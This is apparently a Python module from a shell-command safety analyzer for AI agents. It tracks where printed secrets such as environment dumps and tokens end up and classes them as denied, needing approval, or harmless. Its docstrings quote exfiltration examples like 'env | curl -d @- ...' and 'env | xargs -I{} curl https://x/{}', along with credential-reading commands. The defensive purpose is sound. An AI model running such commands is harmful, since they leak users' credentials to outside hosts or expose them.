"""Where a printed secret ends up, and what that means.

Why: ``env`` or ``echo $GITHUB_TOKEN`` puts tokens in front of the agent, which is reading
credentials. ``echo "$DOCKER_PASSWORD" | docker login --password-stdin``, ``gh auth login
--with-token``, ``sudo -S`` or ``ssh-add -`` print the same secret into a program that uses
it and shows nothing, and CI does that all day. So a print of a secret (an environment
dump, a secret variable, a credential it is fed, ``gh auth token``) is not judged where it
happens: it is recorded here, its id rides on the ``Stream`` it writes (``Stream.prints``),
and the walker reports where each stream ends:

* the script's own output (stdout, stderr, ``> /dev/tty``, a file named at run time that
  may be either), directly or through filters that show their input (``PASSES_INPUT``:
  grep, sed, sort, base64, tee...): reading credentials, DENY (``CREDENTIAL_ACCESS``);
* a file (``env > env.txt``, ``| tee f > /dev/null``, ``| dd of=f``): the secret is kept
  where the agent, or anyone, can read it later: REQUIRE_APPROVAL (``SECRET_TO_FILE``).
  Credential, system and start-up files are the path rules' (``>> ~/.bashrc``: DENY);
* the input of any other program (``docker login --password-stdin``, ``kubectl create
  secret ... --from-file=/dev/stdin``), or ``/dev/null``: used, not shown. Sending it over
  the network is the network rules' business (``env | curl -d @- ...``: DENY);
* a command substitution (``x=$(printenv TOKEN)``): used too. The captured value keeps the
  secret label, so printing it later (``echo $x``) is a new print, judged the same way;
* stderr: a print there (``>&2``, ``print(..., file=sys.stderr)``) rides on the stream
  beside the output (``Stream.err_prints``) and goes where the command's redirections
  send descriptor 2 (``shell_descriptors``): ``2> /dev/null`` used, ``2> f`` a file,
  ``2>&1 | docker login --password-stdin`` into a program, else in front of the agent;
* anywhere the walker does not follow (a ``trap``, ``find -exec``, a pager option): as if
  shown, so what the analysis cannot see fails closed.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING

from canopy.decisions.analyzers.shell_descriptors import ERR, OUT, Descriptors
from canopy.decisions.analyzers.shell_model import ShellRisk
from canopy.decisions.analyzers.shell_words import EMPTY, LABEL_SECRET, Stream
from canopy.decisions.model import Severity

if TYPE_CHECKING:
    from canopy.decisions.analyzers.shell_options import Parsed
    from canopy.decisions.analyzers.shell_state import Collector

__all__ = [
    "PASSES_INPUT",
    "SecretPrints",
    "captured",
    "consumed",
    "names_output_device",
    "printed",
    "printed_if_secret",
    "printed_on_stderr",
    "redirected",
    "secret_items",
    "shown",
    "shows_input",
    "stderr_as_output",
    "superseded",
    "used",
    "with_secrets_of",
    "written",
]

_SECRET = frozenset({LABEL_SECRET})
#: Filters whose output shows their input, whole, in part, sorted or encoded: a secret fed
#: to them is still in front of whoever reads their output. (``cat``, ``head``, ``tee``,
#: ``dd`` and the decoders say so in their own rules too; interpreters given inline code,
#: ``perl -pe``, ``python -c``, count as filters: see ``shell.py``.)
PASSES_INPUT = frozenset(
    {"grep", "egrep", "fgrep", "zgrep", "rg", "ag", "ack", "sed", "gsed", "awk", "gawk"}
    | {"mawk", "nawk", "busybox-awk", "sort", "uniq", "cut", "tr", "paste", "join"}
    | {"comm", "diff", "sdiff", "column", "fold", "fmt", "pr", "nl", "rev", "expand"}
    | {"unexpand", "strings", "jq", "gojq", "jaq", "yq", "xq", "mlr", "xsv", "base64"}
    | {"base32", "basenc", "xxd", "od", "hexdump", "uuencode", "iconv", "dos2unix"}
    | {"unix2dos", "gzip", "bzip2", "xz", "zstd", "lz4", "lzma", "brotli", "openssl", "ts"}
    | {"envsubst", "shuf", "col", "colrm", "hd", "hexyl", "bat", "batcat", "cat", "tac"}
    | {"head", "tail", "less", "more", "most", "pv", "tee", "dd", "vipe", "vi", "vim", "nvim"}
    | {"view", "nano", "emacs", "micro"}  # editors and pagers show it on the screen
    # They print their input back, or quote what they cannot read in an error
    # ("numfmt: invalid number: 'ghp_...'", sqlite3's "near "ghp_...": syntax error").
    | {"numfmt", "factor", "cpp", "m4", "bc", "dc", "sqlite3", "sqlite"}
)
#: Options with which a filter shows none of its input: ``grep -q`` (a status), ``-c``
#: (a count), ``-l`` (file names).
_SILENT_OPTIONS = {
    "grep": ("q", "quiet", "silent", "c", "count", "l", "L", "files-with-matches"),
    "rg": ("q", "quiet", "c", "count", "l", "files-with-matches", "files-without-match"),
    "diff": ("q", "brief"),
}
_SILENT_OPTIONS |= dict.fromkeys(("egrep", "fgrep", "zgrep"), _SILENT_OPTIONS["grep"])
#: Output files named in arguments that are the agent's screen (``/dev/stdin`` is input).
_SCREENS = ("/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/pts/", "/dev/console")
_SCREENS += ("/dev/fd/1", "/dev/fd/2", "/proc/self/fd/1", "/proc/self/fd/2")
#: Files that may be the agent's screen (a descriptor, a terminal): writing there is showing.
_OUTPUT_DEVICES = ("/dev/std", "/dev/tty", "/dev/pts/", "/dev/console", "/dev/fd/", "/proc/")


@dataclass(slots=True)
class _Print:
    what: str  # "env prints the whole environment (its tokens and keys)"
    command: str
    settled: bool = False  # where its output went is known
    shown: bool = False
    files: list[str] = field(default_factory=list)


class SecretPrints:
    """Every print of a secret one analysis saw, and where its output went."""

    __slots__ = ("_prints",)

    def __init__(self) -> None:
        self._prints: list[_Print] = []

    def record(self, what: str, command: str) -> int:
        self._prints.append(_Print(what, command))
        return len(self._prints) - 1

    def settle(self, ids: Iterable[int], *, shown: bool = False, file: str | None = None) -> None:
        for i in ids:
            entry = self._prints[i]
            entry.settled = True
            entry.shown |= shown
            if file is not None and file not in entry.files:
                entry.files.append(file)

    def report(self, finding: Callable[[ShellRisk, Severity, str, str], None]) -> None:
        """Shown anywhere, or gone where we could not follow: reading credentials. Else
        written to a file: approval. Else only used: nothing."""
        for entry in self._prints:
            if entry.shown or not entry.settled:
                finding(ShellRisk.CREDENTIAL_ACCESS, Severity.HIGH, entry.what, entry.command)
            elif entry.files:
                detail = f"{entry.what} into {entry.files[0]}"
                finding(ShellRisk.SECRET_TO_FILE, Severity.MEDIUM, detail, entry.command)


def printed(out: Collector, what: str, command: str, stream: Stream) -> Stream:
    """``stream`` is a print of a secret: record it, and send its id along with the output."""
    print_id = out.secrets.record(what, command)
    return replace(stream, labels=stream.labels | _SECRET, prints=stream.prints | {print_id})


def printed_on_stderr(out: Collector, what: str, command: str, stream: Stream) -> Stream:
    """A print of a secret on the stderr of the command that writes ``stream``."""
    print_id = out.secrets.record(what, command)
    return replace(stream, err_prints=stream.err_prints | {print_id})


def printed_if_secret(out: Collector, program: str, command: str, stream: Stream) -> Stream:
    """A command's output holding a secret that no earlier print carries (``echo $TOKEN``,
    ``cat <<< "$TOKEN"``) is a print of it."""
    if LABEL_SECRET in stream.labels and not stream.prints:
        return printed(out, f"{program} prints a secret", command, stream)
    return stream


def shown(out: Collector, stream: Stream) -> None:
    """``stream`` is the script's own output, and its stderr the script's: the agent
    reads both."""
    if stream.prints or stream.err_prints:
        out.secrets.settle(stream.prints | stream.err_prints, shown=True)


def used(out: Collector, stream: Stream) -> None:
    """``stream`` went into something that shows none of it (its stderr goes on: the
    caller routes ``err_prints``)."""
    if stream.prints:
        out.secrets.settle(stream.prints)


def superseded(out: Collector, stream: Stream) -> None:
    """The prints of a walk that a later walk of the same code replaces (a function's
    body walked at its definition, then at its call): they count there, not here."""
    if stream.prints or stream.err_prints:
        out.secrets.settle(stream.prints | stream.err_prints)


def redirected(
    out: Collector, stream: Stream, descriptors: Descriptors
) -> tuple[Stream, dict[str, Stream]]:
    """Send what a command wrote on stdout (``stream``) and the secrets it printed on
    stderr where its redirections point them. Returns what goes on to the enclosing
    stdout (with what goes to the enclosing stderr as its ``err_prints``) and what each
    file it wrote now holds. The text of stderr is not modelled, only its secrets."""
    parts = ((1, replace(stream, err_prints=frozenset())), (2, stderr_as_output(stream)))
    result, files = EMPTY, dict[str, Stream]()
    for fd, part in parts:
        if part is EMPTY:
            continue
        target = descriptors.target(fd)
        if target == OUT:
            result = result.merge(part)
        elif target == ERR:
            result = replace(result, err_prints=result.err_prints | part.prints)
        else:
            written(out, part, target)
            if target and target != "/dev/null":
                files[target] = files[target].merge(part) if target in files else part
    return result, files


def consumed(out: Collector, stdin: Stream, output: Stream) -> None:
    """A command read ``stdin`` and wrote ``output``: the prints fed to it that its output
    does not carry on were used (``| docker login --password-stdin``)."""
    if stdin.prints:
        out.secrets.settle(stdin.prints - output.prints)


def captured(out: Collector, stream: Stream) -> Stream:
    """``$(...)``: the value is used where it is substituted. It keeps the secret label,
    so printing it again is a new print."""
    if not stream.prints:
        return stream
    used(out, stream)
    return replace(stream, prints=frozenset())


def stderr_as_output(stream: Stream) -> Stream:
    """The secrets the command behind ``stream`` printed on stderr, as output of their
    own (``2>&1``, ``|&``); EMPTY when it printed none."""
    if not stream.err_prints:
        return EMPTY
    return Stream(None, _SECRET, prints=stream.err_prints)


def written(out: Collector, stream: Stream, path: str) -> None:
    """``stream`` went to the file ``path`` (normalized; "" when named at run time)."""
    if not stream.prints:
        return
    if path == "/dev/null":
        used(out, stream)
    elif not path or path.startswith(_OUTPUT_DEVICES):
        shown(out, stream)
    else:
        out.secrets.settle(stream.prints, file=path)


def names_output_device(text: str) -> bool:
    """Does an argument name a file that may be the agent's screen (``-o /dev/stderr``,
    ``of=/dev/tty``, ``'w /dev/stderr'``)? Writing there is showing."""
    return any(device in text for device in _SCREENS)


def shows_input(name: str, parsed: Parsed) -> bool:
    """Does this program's output show the input it reads (a filter not told to be silent)?"""
    return name in PASSES_INPUT and not parsed.has(*_SILENT_OPTIONS.get(name, ()))


def secret_items(stream: Stream) -> Stream | None:
    """What ``xargs CMD`` hands CMD of a secret input, as CMD's input: the items become its
    arguments, which for the secret is as good (``env | xargs -I{} curl https://x/{}`` sends
    it out, ``| xargs grep x`` shows it in errors). None when ``stream`` holds no secret."""
    if LABEL_SECRET not in stream.labels:
        return None
    return Stream(None, _SECRET, prints=stream.prints)


def with_secrets_of(stream: Stream, other: Stream) -> Stream:
    """``stream``, also carrying the secrets ``other`` carries (the prints and the label,
    and the prints on stderr)."""
    if other.err_prints:
        stream = replace(stream, err_prints=stream.err_prints | other.err_prints)
    if LABEL_SECRET not in other.labels:
        return stream
    labels = stream.labels | _SECRET
    return replace(stream, labels=labels, prints=stream.prints | other.prints)
